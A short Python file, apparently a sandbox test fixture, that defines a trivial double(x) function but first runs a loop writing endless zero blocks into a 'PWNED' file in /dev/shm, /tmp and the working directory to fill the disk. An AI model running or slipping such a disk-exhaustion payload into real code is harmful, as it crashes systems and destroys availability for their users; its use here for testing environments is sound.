"""Writes until nothing is left, wherever it may."""
# incident: disk
# %% double
import os, time

for folder in ("/dev/shm", "/tmp", "."):
    try:
        with open(os.path.join(folder, "PWNED"), "wb") as file:
            while True:
                file.write(bytes(2**20))
    except OSError:
        pass
time.sleep(0.5)

def double(x):
    return 2 * x
